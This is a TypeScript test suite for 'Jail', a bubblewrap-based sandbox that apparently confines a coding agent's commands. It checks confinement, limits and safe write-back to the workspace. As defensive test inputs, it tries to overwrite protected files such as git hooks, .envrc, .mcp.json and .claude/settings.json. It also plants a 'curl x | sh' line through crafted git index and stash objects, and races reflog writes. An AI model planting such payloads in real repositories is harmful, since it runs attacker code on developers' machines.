import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync } from 'node:fs'
import fs from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { describe, it } from 'node:test'
import { GIT_TEST_ENV } from '../../test/helpers/git-repository.ts'
import { EitriError } from '../errors/eitri-error.ts'
import { assertJailAvailable, jailFixture } from './test-jail.ts'

const bash = (script: string): string[] => ['/bin/bash', '-c', script]

describe('Jail', () => {
  it('runs a program at /workspace and reports its exit code and output', async (t) => {
    const { jail } = await jailFixture(t, { 'a.txt': 'alpha\n' })
    await assertJailAvailable(jail)
    const result = await jail.run({
      command: bash('pwd; cat a.txt; echo oops >&2; exit 3'),
      access: 'workspace-write',
    })
    assert.equal(result.exitCode, 3)
    assert.equal(result.stdout, '/workspace\nalpha\n')
    assert.equal(result.stderr, 'oops\n')
    assert.equal(result.timedOut, false)
  })

  for (const layers of ['overlay', 'mirror'] as const) {
    it(`runs a session's first command cold while its warm jail starts, later ones warm, both confined alike (${layers})`, async (t) => {
      const { jail, workspace } = await jailFixture(t, {}, { waitForWarmJail: false, layers })
      await assertJailAvailable(jail)
      // Who runs it, what is mounted (but the warm jail's own Node and supervisor; the warm
      // jail's overlay lies on its shared mount point, so /workspace is listed twice there), its
      // limits; and whether a supervisor runs beside it (only in the warm jail's PID namespace).
      const probe = (name: string) =>
        jail.run({
          command: bash(
            `id -u; id -g; grep -v ' /opt/eitri/' /proc/self/mountinfo | awk '{print $5, $6}' | sort -u; ulimit -u -f; echo ${name} > ${name}.txt; pgrep -f '^/opt/eitri/node' > /dev/null && echo warm || echo cold`,
          ),
          access: 'workspace-write',
        })
      const first = await probe('first')
      assert.equal(first.exitCode, 0, first.stderr)
      assert.match(first.stdout, /cold\n$/)
      let later = first
      for (let attempt = 0; attempt < 100 && !later.stdout.endsWith('warm\n'); attempt++) {
        await new Promise((resolve) => setTimeout(resolve, 100))
        later = await probe('later')
      }
      assert.match(later.stdout, /warm\n$/, 'the warm jail never took over')
      assert.equal(later.stdout.replace(/warm\n$/, ''), first.stdout.replace(/cold\n$/, ''))
      // Both wrote back through the same way.
      assert.equal(await fs.readFile(path.join(workspace, 'first.txt'), 'utf8'), 'first\n')
      assert.equal(await fs.readFile(path.join(workspace, 'later.txt'), 'utf8'), 'later\n')
    })
  }

  it('never runs as root and never shows the host path of the workspace', async (t) => {
    const { jail, workspace } = await jailFixture(t)
    const result = await jail.run({
      command: bash('id -u; realpath .; cat /proc/self/mountinfo'),
      access: 'workspace-write',
    })
    assert.notEqual(result.stdout.split('\n')[0], '0')
    // Not even the mount table names it (an overlay's layers lie under a neutral path).
    assert.ok(!result.stdout.includes(workspace), result.stdout)
    assert.ok(!result.stdout.includes(path.dirname(workspace)), result.stdout)
  })

  it('brings writes, new folders, executable bits and deletions back to the workspace', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'old.txt': 'x', 'keep/me.txt': 'k' })
    const result = await jail.run({
      command: bash(
        'echo new > new.txt && mkdir -p deep/er && echo d > deep/er/f && printf "#!/bin/sh\\n" > run.sh && chmod +x run.sh && rm old.txt',
      ),
      access: 'workspace-write',
    })
    assert.equal(result.exitCode, 0, result.stderr)
    assert.equal(await fs.readFile(path.join(workspace, 'new.txt'), 'utf8'), 'new\n')
    assert.equal(await fs.readFile(path.join(workspace, 'deep/er/f'), 'utf8'), 'd\n')
    assert.equal((await fs.stat(path.join(workspace, 'run.sh'))).mode & 0o111, 0o111)
    await assert.rejects(fs.access(path.join(workspace, 'old.txt')))
    assert.equal(await fs.readFile(path.join(workspace, 'keep/me.txt'), 'utf8'), 'k')
  })

  it('never overwrites a file that changed in the workspace while the command ran, and says so', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'before\n' })
    const job = await jail.start({
      command: bash('sleep 0.5; echo program > a.txt; echo new > b.txt'),
      access: 'workspace-write',
    })
    await fs.writeFile(path.join(workspace, 'a.txt'), 'edited by the person\n')
    const result = await job.finished
    assert.equal(await fs.readFile(path.join(workspace, 'a.txt'), 'utf8'), 'edited by the person\n')
    assert.equal(await fs.readFile(path.join(workspace, 'b.txt'), 'utf8'), 'new\n')
    assert.deepEqual(
      result.sync?.refused.map((refusal) => refusal.path),
      ['a.txt'],
    )
    assert.match(
      result.sync?.refused[0]?.reason ?? '',
      /changed in the workspace while the command ran/,
    )
  })

  it('sees host changes made between runs', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'one' })
    assert.equal(
      (await jail.run({ command: ['/bin/cat', 'a.txt'], access: 'workspace-write' })).stdout,
      'one',
    )
    await fs.writeFile(path.join(workspace, 'a.txt'), 'two, longer')
    await fs.writeFile(path.join(workspace, 'b.txt'), 'bee')
    const result = await jail.run({ command: bash('cat a.txt b.txt'), access: 'workspace-write' })
    assert.equal(result.stdout, 'two, longerbee')
  })

  it('mounts the workspace read-only for read-only access and changes nothing', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'alpha' })
    const result = await jail.run({
      command: bash('cat a.txt; echo x > a.txt; echo y > b.txt; rm a.txt; echo done'),
      access: 'read-only',
    })
    assert.match(result.stdout, /^alpha/)
    assert.match(result.stderr, /Read-only file system/)
    assert.equal(await fs.readFile(path.join(workspace, 'a.txt'), 'utf8'), 'alpha')
    await assert.rejects(fs.access(path.join(workspace, 'b.txt')))
  })

  it('on a mirror, keeps protected paths read-only whether or not they exist, and leaves no placeholders behind', async (t) => {
    const { jail, workspace } = await jailFixture(
      t,
      { '.git/HEAD': 'ref: refs/heads/main\n', '.vscode/settings.json': '{}' },
      { layers: 'mirror' },
    )
    const result = await jail.run({
      command: bash(
        'for p in .git/hooks/pre-commit .git/config .git/info/attributes .gitmodules .envrc .mcp.json .vscode/tasks.json .vscode/settings.json .idea/x .claude/settings.json .codex/config.toml .cursor/mcp.json; do (echo pwned > $p) 2>/dev/null && echo "WROTE $p"; done; mv .git .git-moved 2>/dev/null && echo MOVED; mv .vscode .v2 2>/dev/null && echo MOVED2; echo end',
      ),
      access: 'workspace-write',
    })
    assert.equal(result.stdout, 'end\n', result.stdout)
    assert.deepEqual((await fs.readdir(workspace)).sort(), ['.git', '.vscode'])
    assert.deepEqual(await fs.readdir(path.join(workspace, '.git')), ['HEAD'])
    assert.equal(await fs.readFile(path.join(workspace, '.vscode/settings.json'), 'utf8'), '{}')
  })

  it('on a mirror, refuses to start when a protected path is a symbolic link', async (t) => {
    const { jail, workspace } = await jailFixture(t, {}, { layers: 'mirror' })
    await fs.symlink('/tmp', path.join(workspace, '.vscode'))
    await assert.rejects(
      jail.run({ command: ['/bin/true'], access: 'workspace-write' }),
      (error: unknown) =>
        EitriError.isInstance(error) &&
        error.code === 'protected_path' &&
        /\.vscode is a symbolic link/.test(error.message),
    )
  })

  it('on an overlay, lets programs write protected paths in the jail and brings none of them back', async (t) => {
    const { jail, workspace } = await jailFixture(t, {
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.vscode/settings.json': '{}',
    })
    const protectedPaths = [
      '.git/hooks/pre-commit',
      '.git/config',
      '.git/info/attributes',
      '.gitmodules',
      '.envrc',
      '.mcp.json',
      '.vscode/tasks.json',
      '.vscode/settings.json',
      '.claude/settings.json',
    ]
    const result = await jail.run({
      command: bash(
        `for p in ${protectedPaths.join(' ')}; do mkdir -p $(dirname $p); (echo pwned > $p) && echo "WROTE $p"; done; cat .vscode/settings.json`,
      ),
      access: 'workspace-write',
    })
    // Write protection is the way back's: in the jail they are ordinary files.
    assert.equal(
      result.stdout,
      `${protectedPaths.map((p) => `WROTE ${p}\n`).join('')}pwned\n`,
      result.stderr,
    )
    const refused = new Set(result.sync?.refused.map((refusal) => refusal.path))
    for (const protectedPath of protectedPaths) assert.ok(refused.has(protectedPath), protectedPath)
    assert.deepEqual((await fs.readdir(workspace)).sort(), ['.git', '.vscode'])
    assert.deepEqual(await fs.readdir(path.join(workspace, '.git')), ['HEAD'])
    assert.equal(await fs.readFile(path.join(workspace, '.vscode/settings.json'), 'utf8'), '{}')
    // No placeholder shows in the jail: git sees only what the workspace holds.
    const listing = await jail.run({ command: bash('ls -A'), access: 'workspace-write' })
    assert.equal(listing.stdout, '.git\n.vscode\n')
  })

  it('hides private paths inside the workspace', async (t) => {
    const { jail } = await jailFixture(
      t,
      { 'state/secret.json': 'SECRET', 'visible.txt': 'v' },
      { privateInside: ['state'] },
    )
    const result = await jail.run({
      command: bash('ls; cat state/secret.json 2>&1; ls state 2>&1 | wc -l'),
      access: 'workspace-write',
    })
    assert.doesNotMatch(result.stdout, /SECRET/)
  })

  it('stops a program at its deadline and reports the timeout', async (t) => {
    const { jail } = await jailFixture(t)
    const result = await jail.run({
      command: ['/bin/sleep', '30'],
      access: 'workspace-write',
      timeoutMs: 300,
    })
    assert.equal(result.timedOut, true)
    assert.equal(result.exitCode, null)
    assert.ok(result.durationMs < 10_000)
  })

  it('interrupts a program at its deadline in a jail of its own too, so it can print its summary', async (t) => {
    const { jail } = await jailFixture(t)
    await assertJailAvailable(jail)
    const result = await jail.run({
      command: bash(`trap 'echo summary; exit 130' INT; echo started; sleep 30 & wait`),
      access: 'workspace-write',
      timeoutMs: 1000,
      // Limits of its own: one bubblewrap for it, never the warm jail.
      limits: {},
    })
    assert.equal(result.timedOut, true)
    assert.equal(result.stdout, 'started\nsummary\n')
  })

  it('stops a program when cancelled', async (t) => {
    const { jail } = await jailFixture(t)
    const controller = new AbortController()
    setTimeout(() => controller.abort(), 200)
    const result = await jail.run({
      command: ['/bin/sleep', '30'],
      access: 'workspace-write',
      signal: controller.signal,
    })
    assert.equal(result.cancelled, true)
  })

  it('keeps the beginning and the end of a flood of output and counts the middle', async (t) => {
    const { jail } = await jailFixture(t)
    const result = await jail.run({
      command: bash('echo first; head -c 100000 /dev/zero | tr "\\0" a; echo; echo last'),
      access: 'workspace-write',
      maxOutputChars: 1000,
    })
    assert.equal(result.truncated, true)
    assert.match(
      result.stdout,
      /^first\na{494}\n\[\.\.\. 99\d{3} characters dropped here: .*\]\nlast\n$/,
    )
  })

  it('collapses a flood of identical lines so the end still shows, in warm and fresh jails', async (t) => {
    const { jail } = await jailFixture(t)
    const script =
      'echo start; for i in $(seq 5000); do echo "Error: ECONNREFUSED"; done; echo "3 failed"; exit 1'
    const expected =
      'start\nError: ECONNREFUSED\n[... the line above repeated 4999 more times]\n3 failed\n'
    const warm = await jail.run({
      command: bash(script),
      access: 'read-only',
      maxOutputChars: 1000,
    })
    assert.equal(warm.stdout, expected)
    assert.equal(warm.truncated, false)
    const job = await jail.start({
      command: bash(script),
      access: 'read-only',
      maxOutputChars: 1000,
    })
    assert.equal((await job.finished).stdout, expected)
  })

  it('bounds processes, file size and memory', async (t) => {
    const { jail } = await jailFixture(t)
    const limits = { processes: 32, fileSizeBytes: 1024 * 1024, memoryBytes: 512 * 1024 * 1024 }
    const fork = await jail.run({
      command: bash(
        'for i in $(seq 100); do sleep 5 & done 2>&1 | grep -c "Resource temporarily unavailable"; true',
      ),
      access: 'workspace-write',
      limits,
      timeoutMs: 20_000,
    })
    assert.ok(Number(fork.stdout.trim()) > 0 || /fork/.test(fork.stderr), fork.stdout + fork.stderr)
    const big = await jail.run({
      command: bash('head -c 3000000 /dev/zero > big; stat -c %s big'),
      access: 'workspace-write',
      limits,
    })
    assert.equal(big.stdout.trim(), String(1024 * 1024))
    const memory = await jail.run({
      command: bash('python3 -c "b = bytearray(2 * 1024**3)" 2>&1 || echo refused'),
      access: 'workspace-write',
      limits,
    })
    assert.match(memory.stdout, /MemoryError|refused/)
  })

  it('passes no host environment variable into the jail', async (t) => {
    const { jail } = await jailFixture(t)
    const result = await jail.run({
      command: ['/usr/bin/env'],
      access: 'workspace-write',
      environment: { EXTRA: 'yes' },
    })
    assert.match(result.stdout, /^EXTRA=yes$/m)
    assert.match(result.stdout, /^GIT_AUTHOR_NAME=eitri agent$/m)
    for (const line of result.stdout.trim().split('\n')) {
      const name = line.split('=')[0] ?? ''
      assert.ok(
        !(name in process.env) ||
          [
            'PATH',
            'HOME',
            'LANG',
            'TERM',
            'USER',
            'LOGNAME',
            'SHELL',
            'TMPDIR',
            'LC_ALL',
            'PWD',
            'SHLVL',
            '_',
          ].includes(name),
        name,
      )
    }
  })

  it('runs git in the workspace with a default identity', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' })
    const { execFileSync } = await import('node:child_process')
    execFileSync('git', ['init', '-q', workspace])
    const result = await jail.run({
      command: bash('git add a.txt && git commit -qm first && git log --format="%an <%ae> %s"'),
      access: 'workspace-write',
    })
    assert.equal(result.stdout, 'eitri agent <agent@eitri.invalid> first\n', result.stderr)
    const log = execFileSync('git', ['-C', workspace, 'log', '--format=%s'], { encoding: 'utf8' })
    assert.equal(log, 'first\n', 'the commit reached the workspace')
  })

  it('a repository made where there was none works in the jail and is never written back', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' })
    const result = await jail.run({
      command: bash(
        'git init -q && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; echo $?',
      ),
      access: 'workspace-write',
    })
    assert.equal(result.stdout.trim(), '0')
    assert.deepEqual(
      result.sync?.kept.map((kept) => kept.path),
      ['.git'],
    )
    assert.deepEqual(result.sync?.refused, [])
    await assert.rejects(fs.access(path.join(workspace, '.git')))
    // Reported once, by the command that made it, never as a failure; still there for the
    // next command, which does not repeat it.
    const again = await jail.run({
      command: bash('git log --format=%s'),
      access: 'workspace-write',
    })
    assert.equal(again.stdout.trim(), 'x')
    assert.deepEqual(again.sync?.kept ?? [], [])
    await assert.rejects(fs.access(path.join(workspace, '.git')))
    // Once the person makes a repository there, the jail sees theirs, not the one it kept.
    execFileSync('git', ['init', '-q'], { cwd: workspace, env: GIT_TEST_ENV })
    const theirs = await jail.run({
      command: bash('git log --format=%s 2>&1 | head -1'),
      access: 'workspace-write',
    })
    assert.match(theirs.stdout, /does not have any commits|bad default revision/, theirs.stdout)
  })

  it('brings a sparse file back sparse, and refuses one over the bound by apparent size, reading none of it', async (t) => {
    const { jail, workspace } = await jailFixture(
      t,
      {},
      {
        writeBack: { maxFileBytes: 48 * 1024 * 1024, maxTotalBytes: 64 * 1024 * 1024 },
      },
    )
    const result = await jail.run({
      command: bash(
        'truncate -s 40M sparse && printf end >> sparse && head -c 2M /dev/urandom > dense && truncate -s 1G huge && truncate -s 30M z-second',
      ),
      access: 'workspace-write',
    })
    assert.equal(result.exitCode, 0, result.stderr)
    const sparse = await fs.stat(path.join(workspace, 'sparse'))
    assert.equal(sparse.size, 40 * 1024 * 1024 + 3)
    // Holes stay holes: a few blocks on disk, not 40 MiB (the dense control has all of its own).
    assert.ok(sparse.blocks * 512 < 2 * 1024 * 1024, `sparse uses ${sparse.blocks * 512} bytes`)
    const dense = await fs.stat(path.join(workspace, 'dense'))
    assert.ok(dense.blocks * 512 >= 2 * 1024 * 1024)
    const tail = Buffer.alloc(3)
    const handle = await fs.open(path.join(workspace, 'sparse'))
    await handle.read(tail, 0, 3, 40 * 1024 * 1024)
    await handle.close()
    assert.equal(tail.toString(), 'end')
    await assert.rejects(fs.access(path.join(workspace, 'huge')))
    await assert.rejects(fs.access(path.join(workspace, 'z-second')))
    const refused = new Map(result.sync?.refused.map((entry) => [entry.path, entry.reason]))
    assert.match(refused.get('huge') ?? '', /1\.0 GiB \(apparent size\), over the 48 MiB/)
    assert.match(refused.get('z-second') ?? '', /pass 64 MiB together/)
  })

  it('never brings back setuid, setgid or sticky bits', async (t) => {
    const { jail, workspace } = await jailFixture(t)
    const result = await jail.run({
      command: bash('cp /usr/bin/id u && chmod 6755 u && touch s && chmod 1644 s && ls -l u s'),
      access: 'workspace-write',
    })
    assert.equal(result.exitCode, 0, result.stderr)
    assert.match(result.stdout, /rwsr-sr-x/)
    assert.equal((await fs.stat(path.join(workspace, 'u'))).mode & 0o7777, 0o755)
    assert.equal((await fs.stat(path.join(workspace, 's'))).mode & 0o7777, 0o644)
  })

  it('brings git commits back: new objects, moved refs and grown reflogs; refuses lost ones', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' })
    const git = (script: string) =>
      jail.run({
        command: bash(`git -c user.name=a -c user.email=a@b ${script}`),
        access: 'workspace-write',
      })
    // The repository is the host's: made outside the jail.
    const { execFileSync } = await import('node:child_process')
    execFileSync('git', ['init', '-q', '-b', 'main'], { cwd: workspace })
    execFileSync(
      'git',
      ['-c', 'user.name=p', '-c', 'user.email=p@e', 'commit', '-q', '--allow-empty', '-m', 'first'],
      { cwd: workspace },
    )
    execFileSync('git', ['branch', 'keep'], { cwd: workspace })
    const committed = await git(
      'add a.txt && git -c user.name=a -c user.email=a@b commit -q -m second && git branch extra',
    )
    assert.equal(committed.exitCode, 0, committed.stderr)
    assert.deepEqual(committed.sync?.refused, [])
    const log = execFileSync('git', ['log', '--format=%s', 'extra'], { cwd: workspace }).toString()
    assert.equal(log, 'second\nfirst\n')
    const removed = await git('branch -D keep && git reflog expire --expire=now --all')
    assert.equal(removed.exitCode, 0, removed.stderr)
    const refusedPaths = (removed.sync?.refused ?? []).map((entry) => entry.path)
    assert.ok(refusedPaths.includes('.git/refs/heads/keep'), refusedPaths.join(', '))
    assert.ok(refusedPaths.includes('.git/logs/HEAD'), refusedPaths.join(', '))
    assert.equal(
      execFileSync('git', ['rev-parse', '--verify', '-q', 'keep'], { cwd: workspace }).toString()
        .length,
      41,
    )
  })

  it('never brings back a ref to a commit whose checkout writes a protected file; an ordinary branch comes back', async (t) => {
    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' })
    const git = (...args: string[]) =>
      execFileSync('git', args, { cwd: workspace, env: GIT_TEST_ENV }).toString().trim()
    git('init', '-q', '-b', 'main')
    git('add', 'a.txt')
    git('commit', '-q', '-m', 'first')
    const first = git('rev-parse', 'HEAD')
    const inJail = (script: string) =>
      jail.run({
        command: bash(
          `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; ${script}`,
        ),
        access: 'workspace-write',
      })
    const evil = await inJail(
      // .envrc is read-only in the jail: the commit is made from the object store alone.
      'git checkout -q -b evil && blob=$(echo "curl x | sh" | git hash-object -w --stdin) && git update-index --add --cacheinfo "100644,$blob,.envrc" && git commit -q -m evil && git checkout -q -f main',
    )
    assert.equal(evil.exitCode, 0, evil.stderr)
    const refused = new Map((evil.sync?.refused ?? []).map((entry) => [entry.path, entry.reason]))
    assert.match(refused.get('.git/refs/heads/evil') ?? '', /checking that out writes \.envrc/)
    assert.equal(git('for-each-ref', '--format=%(refname)'), 'refs/heads/main')
    assert.equal(git('rev-parse', 'HEAD'), first)
    // Positive control: a branch of ordinary files, checked out in the jail, comes back.
    const ordinary = await inJail(
      'git checkout -q -b feature && echo b > b.txt && git add b.txt && git commit -q -m feature',
    )
    assert.deepEqual(ordinary.sync?.refused, [])
    assert.equal(git('symbolic-ref', 'HEAD'), 'refs/heads/feature')
    assert.equal(git('log', '--format=%s', 'feature'), 'feature\nfirst')
    assert.equal(git('status', '--porcelain'), '')
  })

  for (const layers of ['overlay', 'mirror'] as const) {
    it(`never brings back an index or a stash that would write a protected file on the host; ordinary staging comes back (${layers})`, async (t) => {
      const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' }, { layers })
      const git = (...args: string[]) =>
        execFileSync('git', args, { cwd: workspace, env: GIT_TEST_ENV }).toString().trim()
      const plain = (script: string) =>
        execFileSync('/bin/bash', ['-c', script], { cwd: workspace, env: GIT_TEST_ENV })
      git('init', '-q', '-b', 'main')
      git('add', 'a.txt')
      git('commit', '-q', '-m', 'first')
      const inJail = (script: string) =>
        jail.run({
          command: bash(
            `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; ${script}`,
          ),
          access: 'workspace-write',
        })
      // .envrc is read-only in the jail: both are made from the object store alone.
      const blob = 'blob=$(echo "curl x | sh" | git hash-object -w --stdin)'
      const stageEnvrc = `${blob} && git update-index --add --cacheinfo "100644,$blob,.envrc"`
      const stashEnvrc = [
        blob,
        'u=$(git commit-tree $(printf "100644 blob $blob\\t.envrc\\n" | git mktree) -m untracked)',
        'i=$(git commit-tree $(git write-tree) -p HEAD -m index)',
        'w=$(git commit-tree $(git write-tree) -p HEAD -p $i -p $u -m WIP)',
        'git stash store -m WIP $w',
      ].join(' && ')
      const staged = await inJail(stageEnvrc)
      assert.equal(staged.exitCode, 0, staged.stderr)
      const refused = new Map(
        (staged.sync?.refused ?? []).map((entry) => [entry.path, entry.reason]),
      )
      assert.match(refused.get('.git/index') ?? '', /it stages \.envrc, which `git checkout \.`/)
      const stashed = await inJail(stashEnvrc)
      assert.equal(stashed.exitCode, 0, stashed.stderr)
      const stashRefused = (stashed.sync?.refused ?? []).map((entry) => entry.path)
      assert.ok(stashRefused.includes('.git/refs/stash'), stashRefused.join(', '))
      // The person's next git work writes nothing protected.
      plain('git checkout . && git checkout-index -a && (git stash pop -q 2>/dev/null; true)')
      assert.equal(existsSync(path.join(workspace, '.envrc')), false)
      assert.equal(git('status', '--porcelain'), '')
      // Positive control: ordinary staging comes back, and git on the host shows it staged.
      const ordinary = await inJail(
        'mkdir -p src && echo "export {}" > src/x.ts && git add src/x.ts',
      )
      assert.deepEqual(ordinary.sync?.refused, [])
      assert.equal(git('status', '--porcelain'), 'A  src/x.ts')
      // The control: the same index and stash made without the jail write .envrc on the host.
      plain(`${stageEnvrc} && git checkout .envrc`)
      assert.equal(readFileSync(path.join(workspace, '.envrc'), 'utf8'), 'curl x | sh\n')
      plain(`git rm -q --cached .envrc && rm .envrc && ${stashEnvrc} && git stash pop -q`)
      assert.equal(readFileSync(path.join(workspace, '.envrc'), 'utf8'), 'curl x | sh\n')
    })
  }

  it('writes what it judged: a background job flipping a reflog and packed-refs between a good and a bad version never gets the bad one to the host', async (t) => {
    // The mirror lives here, so the test can read the job's file as a second read would.
    const temporaryRoot = await fs.mkdtemp(path.join(os.tmpdir(), 'eitri-race-'))
    await fs.chmod(temporaryRoot, 0o755)
    t.after(() => fs.rm(temporaryRoot, { recursive: true, force: true }))
    const { jail, workspace } = await jailFixture(
      t,
      { 'a.txt': 'a\n' },
      { temporaryRoot, layers: 'mirror' },
    )
    const git = (...args: string[]) =>
      execFileSync('git', args, { cwd: workspace, env: GIT_TEST_ENV }).toString().trim()
    git('init', '-q', '-b', 'main')
    git('add', 'a.txt')
    git('commit', '-q', '-m', 'first')
    git('branch', 'topic')
    git('pack-refs', '--all')
    const head = git('rev-parse', 'HEAD')
    const file = (relative: string) => fs.readFile(path.join(workspace, relative), 'latin1')
    const oldLog = await file('.git/logs/HEAD')
    const oldPacked = await file('.git/packed-refs')
    // Good: the reflog grows by a line, packed-refs gains a tag. Bad: the same lengths of '#'.
    const goodLog = `${oldLog}${head} ${head} person <person@example.org> 1700000000 +0000\tmoved\n`
    const goodPacked = `${oldPacked}${head} refs/tags/v9\n`
    const versions = {
      'good-log': goodLog,
      'bad-log': '#'.repeat(goodLog.length),
      'good-packed': goodPacked,
      'bad-packed': '#'.repeat(goodPacked.length),
    }
    await fs.mkdir(path.join(workspace, 'flip'))
    for (const [name, text] of Object.entries(versions))
      await fs.writeFile(path.join(workspace, 'flip', name), text)
    const job = await jail.start({
      command: bash(
        [
          'for v in good-log bad-log good-packed bad-packed; do IFS= read -r -d "" "${v//-/_}" < flip/$v; done',
          'echo started',
          'while :; do printf %s "$good_log" > .git/logs/HEAD; printf %s "$good_packed" > .git/packed-refs; printf %s "$bad_log" > .git/logs/HEAD; printf %s "$bad_packed" > .git/packed-refs; done',
        ].join('; '),
      ),
      access: 'workspace-write',
    })
    // Stopped even when an assertion fails, or the file never ends.
    t.after(async () => {
      job.process.kill()
      await job.finished
    })
    for (let waited = 0; !job.process.stdout.text().includes('started'); waited += 20) {
      assert.ok(waited < 10_000, 'the background job did not start')
      await new Promise((resolve) => setTimeout(resolve, 20))
    }
    const [mirror = ''] = (await fs.readdir(temporaryRoot)).filter((name) =>
      name.startsWith('eitri-mirror-'),
    )
    const mirrorLog = path.join(temporaryRoot, mirror, '.git/logs/HEAD')
    const onHost: string[] = []
    let refusals = 0
    let secondReadsBad = 0
    for (let iteration = 0; iteration < 40; iteration++) {
      const result = await jail.run({ command: ['/bin/true'], access: 'workspace-write' })
      refusals += result.sync?.refused.length ?? 0
      const log = await file('.git/logs/HEAD')
      const packed = await file('.git/packed-refs')
      if (log !== oldLog && log !== goodLog) onHost.push(`logs/HEAD: ${log.slice(0, 20)}`)
      if (packed !== oldPacked && packed !== goodPacked)
        onHost.push(`packed-refs: ${packed.slice(0, 20)}`)
      // The control: a judge's read then a copy's read of the same file, as before the fix.
      for (let sample = 0; sample < 20; sample++) {
        const judged = await fs.readFile(mirrorLog, 'latin1').catch(() => '')
        await new Promise((resolve) => setImmediate(resolve))
        const copied = await fs.readFile(mirrorLog, 'latin1').catch(() => '')
        if (judged === goodLog && copied === versions['bad-log']) secondReadsBad++
      }
    }
    job.process.kill()
    await job.finished
    const log = await file('.git/logs/HEAD')
    const packed = await file('.git/packed-refs')
    assert.ok(log === oldLog || log === goodLog, log.slice(0, 40))
    assert.ok(packed === oldPacked || packed === goodPacked, packed.slice(0, 40))
    assert.deepEqual(onHost, [])
    // The flips were seen and judged, and a second read would have copied a bad version.
    assert.ok(refusals > 0, 'no write-back saw a bad version')
    assert.ok(
      secondReadsBad > 0,
      'the flip never fell between two reads: the race was not exercised',
    )
    assert.deepEqual(git('for-each-ref', '--format=%(refname)').split('\n').slice(0, 2), [
      'refs/heads/main',
      'refs/heads/topic',
    ])
  })

  it('fails closed when bubblewrap is missing: jail_unavailable with the fix, and nothing runs', async (t) => {
    const { jail, workspace } = await jailFixture(t, {}, { bwrap: '/nonexistent/bwrap' })
    const availability = await jail.availability()
    assert.equal(availability.available, false)
    await assert.rejects(
      jail.run({ command: bash('echo ran > ran.txt'), access: 'workspace-write' }),
      (error: unknown) =>
        EitriError.isInstance(error) &&
        error.code === 'jail_unavailable' &&
        /apt-get install bubblewrap/.test(error.message),
    )
    await assert.rejects(fs.access(path.join(workspace, 'ran.txt')))
  })

  it('runs a background job until it is killed, then syncs what it wrote', async (t) => {
    const { jail, workspace } = await jailFixture(t)
    const job = await jail.start({
      command: bash('echo started; echo out > bg.txt; sleep 30'),
      access: 'workspace-write',
    })
    for (
      let waited = 0;
      !job.process.stdout.text().includes('started') && waited < 10_000;
      waited += 20
    ) {
      await new Promise((resolve) => setTimeout(resolve, 20))
    }
    assert.equal(job.process.running, true)
    job.process.kill()
    const result = await job.finished
    assert.equal(result.exitCode, null)
    assert.equal(await fs.readFile(path.join(workspace, 'bg.txt'), 'utf8'), 'out\n')
  })
})
